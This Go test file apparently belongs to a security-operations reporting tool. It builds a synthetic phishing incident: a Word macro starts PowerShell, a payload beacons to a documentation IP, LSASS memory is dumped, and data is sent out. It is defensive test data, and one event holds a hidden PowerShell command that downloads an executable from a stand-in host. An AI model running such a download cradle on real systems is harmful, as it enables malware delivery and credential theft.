package report

import (
	"time"

	"github.com/causeway-soc/causeway/internal/model/event"
	"github.com/causeway-soc/causeway/internal/model/finding"
	"github.com/causeway-soc/causeway/internal/model/incident"
)

// phishing is a hand-built incident: a phishing attachment opened in Word
// starts PowerShell, which fetches a payload that beacons to a C2 address,
// dumps LSASS memory and sends data out. evs holds its events but one, so
// that a report must cope with an event it cannot look up.
type phishing struct {
	inc incident.Incident
	evs map[event.ID]*event.Event
}

var t0 = time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC)

func at(min, sec int) time.Time {
	return t0.Add(time.Duration(min)*time.Minute + time.Duration(sec)*time.Second)
}

func newPhishing() phishing {
	host := event.Host("WS1.corp.com")
	alice := event.Entity{Kind: event.KindPrincipal, ID: "principal:alice@corp.com", Name: "alice@corp.com"}
	outlook := event.Process(host, "{11111111-0000-0000-0000-000000000001}", `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`)
	docm := event.File(host, `C:\Users\alice\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7X2\invoice_2026-03.docm`, true)
	word := event.Process(host, "{11111111-0000-0000-0000-000000000002}", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)
	ps := event.Process(host, "{11111111-0000-0000-0000-000000000003}", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
	payload := event.Process(host, "{11111111-0000-0000-0000-000000000004}", `C:\ProgramData\update.exe`)
	c2 := event.Endpoint("203.0.113.80", 443)
	lsass := event.Process(host, "{11111111-0000-0000-0000-000000000005}", `C:\Windows\System32\lsass.exe`)
	dump := event.File(host, `C:\Windows\Temp\lsass.dmp`, true)

	p := phishing{evs: map[event.ID]*event.Event{}}
	mk := func(n int, t time.Time, class event.Class, action string, refs []event.Ref, fields ...string) event.ID {
		id := event.NewID("report-test", string(rune('a'+n)))
		ev := &event.Event{ID: id, Time: t, Class: class, Action: action, Outcome: event.OutcomeSuccess, Refs: refs,
			Source: event.Source{Format: "evtx", Path: "case-17/WS1/Microsoft-Windows-Sysmon%4Operational.evtx", Offset: int64(4096 * (n + 1)), Record: string(rune('0' + n))}}
		for i := 0; i+1 < len(fields); i += 2 {
			ev.Fields = append(ev.Fields, event.Field{Key: fields[i], Value: fields[i+1]})
		}
		p.evs[id] = ev
		return id
	}
	ref := func(role event.Role, e event.Entity) event.Ref { return event.Ref{Role: role, Entity: e} }
	eLogon := mk(0, at(0, 30), event.ClassLogon, "logon", []event.Ref{ref(event.RoleHost, host), ref(event.RoleTargetUser, alice)}, "EventID", "4624", "LogonType", "2")
	eSave := mk(1, at(2, 10), event.ClassFile, "create", []event.Ref{ref(event.RoleHost, host), ref(event.RoleActor, outlook), ref(event.RoleTarget, docm)}, "EventID", "11")
	eOpen := mk(2, at(3, 5), event.ClassProcess, "start", []event.Ref{ref(event.RoleHost, host), ref(event.RoleUser, alice), ref(event.RoleTarget, word)},
		"EventID", "1", "CommandLine", `"WINWORD.EXE" /n "C:\Users\alice\...\invoice_2026-03.docm"`)
	ePS := mk(3, at(5, 40), event.ClassProcess, "start", []event.Ref{ref(event.RoleHost, host), ref(event.RoleParent, word), ref(event.RoleTarget, ps)},
		"EventID", "1", "CommandLine", `powershell -nop -w hidden -c "iwr https://203.0.113.80/u -OutFile C:\ProgramData\update.exe"`)
	eFetch := mk(4, at(5, 52), event.ClassNetwork, "connect", []event.Ref{ref(event.RoleHost, host), ref(event.RoleActor, ps), ref(event.RoleDst, c2)}, "EventID", "3")
	eStart := mk(5, at(6, 30), event.ClassProcess, "start", []event.Ref{ref(event.RoleHost, host), ref(event.RoleParent, ps), ref(event.RoleTarget, payload)}, "EventID", "1")
	eBeacon := mk(6, at(7, 0), event.ClassNetwork, "connect", []event.Ref{ref(event.RoleHost, host), ref(event.RoleActor, payload), ref(event.RoleDst, c2)}, "EventID", "3")
	eAccess := mk(7, at(21, 13), event.ClassProcess, "access", []event.Ref{ref(event.RoleHost, host), ref(event.RoleActor, payload), ref(event.RoleTarget, lsass)},
		"EventID", "10", "GrantedAccess", "0x1fffff")
	eDump := mk(8, at(21, 20), event.ClassFile, "create", []event.Ref{ref(event.RoleHost, host), ref(event.RoleActor, payload), ref(event.RoleTarget, dump)}, "EventID", "11")
	eLast := event.NewID("report-test", "zeek-conn-last") // cited, not available

	newFinding := func(rule, title, lvl string, techs, tactics []string, evs ...event.ID) finding.Finding {
		var refs []event.Ref
		var last time.Time
		parts := []string{"finding", rule}
		for _, id := range evs {
			if ev := p.evs[id]; ev != nil {
				refs = append(refs, ev.Refs...)
				last = ev.Time
			}
			parts = append(parts, id.String())
		}
		return finding.Finding{ID: event.NewID(parts...), Time: last, Events: evs, Entities: refs,
			Rule: finding.Rule{ID: rule, Title: title, Level: lvl, Techniques: techs, Tactics: tactics}}
	}
	fPS := newFinding("a1b2", "Office application spawned PowerShell", "high", []string{"T1204.002", "T1059.001"}, []string{"execution"}, ePS)
	fC2 := newFinding("c3d4", "Connection to a rare external address", "medium", []string{"T1071.001"}, []string{"command-and-control"}, eBeacon)
	fLsass := newFinding("e5f6", "LSASS memory dumped to disk", "critical", []string{"T1003.001"}, []string{"credential-access"}, eAccess, eDump)

	member := func(e event.Entity, role string, t time.Time) incident.Member {
		return incident.Member{Entity: e, Role: role, First: t}
	}
	node := func(e event.Entity, role string, findings int) incident.Node {
		return incident.Node{Entity: e, Role: role, Findings: findings}
	}
	edge := func(from, to event.Entity, kind string, first, last time.Time, count int, bytes int64, evs ...event.ID) incident.Edge {
		return incident.Edge{From: from.ID, To: to.ID, Kind: kind, First: first, Last: last, Count: count, Bytes: bytes, Events: evs}
	}
	const mib = 1 << 20
	p.inc = incident.Incident{
		ID:       event.NewID("incident", fPS.ID.String()),
		Title:    "Phishing attachment led to an LSASS dump on ws1",
		Severity: "critical",
		First:    at(0, 30), Last: at(40, 0),
		Findings: []finding.Finding{fPS, fC2, fLsass},
		RootCauses: []incident.RootCause{
			{Subject: incident.Subject{Entity: docm, Time: at(2, 10), Evidence: []event.ID{eSave, eOpen}}, Confidence: 0.78,
				Reason: "earliest ancestor of 3 findings via a file written by OUTLOOK.EXE"},
			{Subject: incident.Subject{Entity: alice, Time: at(0, 30), Evidence: []event.ID{eLogon}}, Confidence: 0.12,
				Reason: "interactive logon that started the process tree"},
		},
		FirstCompromised: &incident.Subject{Entity: host, Time: at(3, 5), Evidence: []event.ID{eOpen}},
		Techniques: []incident.Technique{
			{ID: "T1566.001", Tactics: []string{"initial-access"}, First: at(2, 10), Events: []event.ID{eSave}},
			{ID: "T1204.002", Tactics: []string{"execution"}, First: at(5, 40), Rules: []string{fPS.Rule.Title}, Events: []event.ID{ePS}},
			{ID: "T1059.001", Tactics: []string{"execution"}, First: at(5, 40), Rules: []string{fPS.Rule.Title}, Events: []event.ID{ePS}},
			{ID: "T1071.001", Tactics: []string{"command-and-control"}, First: at(7, 0), Rules: []string{fC2.Rule.Title}, Events: []event.ID{eBeacon}},
			{ID: "T1003.001", Tactics: []string{"credential-access"}, First: at(21, 13), Rules: []string{fLsass.Rule.Title}, Events: []event.ID{eAccess, eDump}},
			{ID: "T1041", Tactics: []string{"exfiltration"}, First: at(7, 0), Events: []event.ID{eBeacon, eLast}},
		},
		Stages: []string{"initial-access", "execution", "command-and-control", "credential-access", "exfiltration"},
		Impact: incident.Impact{
			Data:       []incident.DataAccess{{Entity: lsass, By: payload, Action: "read", Count: 1, Bytes: 45 * mib, First: at(21, 13), Events: []event.ID{eAccess, eDump}}},
			Transfers:  []incident.Transfer{{From: payload, To: c2, Bytes: 48 * mib, First: at(7, 0), Events: []event.ID{eBeacon, eLast}}},
			Hosts:      []incident.Subject{{Entity: host, Time: at(3, 5), Evidence: []event.ID{eOpen}}},
			Identities: []incident.Subject{{Entity: alice, Time: at(0, 30), Evidence: []event.ID{eLogon}}},
		},
		Entities: []incident.Member{
			member(host, "compromised", at(0, 30)), member(alice, "compromised", at(0, 30)), member(outlook, "", at(2, 10)),
			member(docm, "root-cause", at(2, 10)), member(word, "compromised", at(3, 5)), member(ps, "attacker", at(5, 40)),
			member(c2, "attacker", at(5, 52)), member(payload, "attacker", at(6, 30)), member(lsass, "target", at(21, 13)),
			member(dump, "data", at(21, 20)),
		},
		Timeline: []incident.Step{
			{Time: at(0, 30), Text: "alice@corp.com logged on to ws1", Events: []event.ID{eLogon}, Entities: []string{alice.ID, host.ID}},
			{Time: at(2, 10), Text: "OUTLOOK.EXE saved invoice_2026-03.docm", Tactic: "initial-access", Events: []event.ID{eSave}, Entities: []string{outlook.ID, docm.ID}},
			{Time: at(3, 5), Text: "alice@corp.com opened invoice_2026-03.docm in WINWORD.EXE", Tactic: "execution", Events: []event.ID{eOpen}, Entities: []string{word.ID, docm.ID}},
			{Time: at(5, 40), Text: "Office application spawned PowerShell", Tactic: "execution", Finding: true, Events: []event.ID{ePS}, Entities: []string{word.ID, ps.ID}},
			{Time: at(6, 30), Text: "powershell.exe started update.exe", Tactic: "execution", Events: []event.ID{eStart}, Entities: []string{ps.ID, payload.ID}},
			{Time: at(7, 0), Text: "Connection to a rare external address", Tactic: "command-and-control", Finding: true, Events: []event.ID{eBeacon}, Entities: []string{payload.ID, c2.ID}},
			{Time: at(21, 20), Text: "LSASS memory dumped to disk", Tactic: "credential-access", Finding: true, Events: []event.ID{eAccess, eDump}, Entities: []string{payload.ID, lsass.ID, dump.ID}},
			{Time: at(40, 0), Text: "update.exe sent 48.0 MiB to 203.0.113.80:443", Tactic: "exfiltration", Events: []event.ID{eLast}, Entities: []string{payload.ID, c2.ID}},
		},
		Story: []incident.Sentence{
			{Text: "alice@corp.com opened invoice_2026-03.docm, an attachment OUTLOOK.EXE had saved, in WINWORD.EXE on ws1.", Events: []event.ID{eSave, eOpen}, Entities: []string{alice.ID, docm.ID, word.ID}},
			{Text: "WINWORD.EXE started powershell.exe, which fetched update.exe from 203.0.113.80:443 and started it.", Events: []event.ID{ePS, eFetch, eStart}, Entities: []string{word.ID, ps.ID, payload.ID, c2.ID}},
			{Text: "update.exe connected to 203.0.113.80:443 42 times between 09:07 and 09:40 and sent 48.0 MiB.", Events: []event.ID{eBeacon, eLast}, Entities: []string{payload.ID, c2.ID}},
			{Text: "update.exe opened the memory of lsass.exe and wrote it to lsass.dmp (45.0 MiB).", Events: []event.ID{eAccess, eDump}, Entities: []string{payload.ID, lsass.ID, dump.ID}},
		},
		Graph: incident.Graph{
			Nodes: []incident.Node{
				node(host, "compromised", 0), node(alice, "compromised", 0), node(outlook, "", 0), node(docm, "root-cause", 0),
				node(word, "compromised", 0), node(ps, "attacker", 1), node(payload, "attacker", 2), node(c2, "attacker", 0),
				node(lsass, "target", 0), node(dump, "data", 0),
			},
			Edges: []incident.Edge{
				edge(alice, host, "logon", at(0, 30), at(0, 30), 1, 0, eLogon),
				edge(outlook, docm, "write", at(2, 10), at(2, 10), 1, 0, eSave),
				edge(docm, word, "open", at(3, 5), at(3, 5), 1, 0, eOpen),
				edge(word, ps, "start", at(5, 40), at(5, 40), 1, 0, ePS),
				edge(ps, c2, "connect", at(5, 52), at(6, 1), 3, 0, eFetch),
				edge(ps, payload, "start", at(6, 30), at(6, 30), 1, 0, eStart),
				edge(payload, c2, "connect", at(7, 0), at(40, 0), 42, 48*mib, eBeacon, eLast),
				edge(payload, lsass, "access", at(21, 13), at(21, 13), 1, 0, eAccess),
				edge(payload, dump, "write", at(21, 20), at(21, 20), 1, 45*mib, eDump),
			},
		},
		Joins: []incident.Join{
			{Finding: fC2.ID, To: fPS.ID, Path: []string{ps.ID, payload.ID, c2.ID}},
			{Finding: fLsass.ID, To: fC2.ID, Path: []string{c2.ID, payload.ID, lsass.ID}},
		},
	}
	return p
}

func (p phishing) lookup(id event.ID) *event.Event { return p.evs[id] }
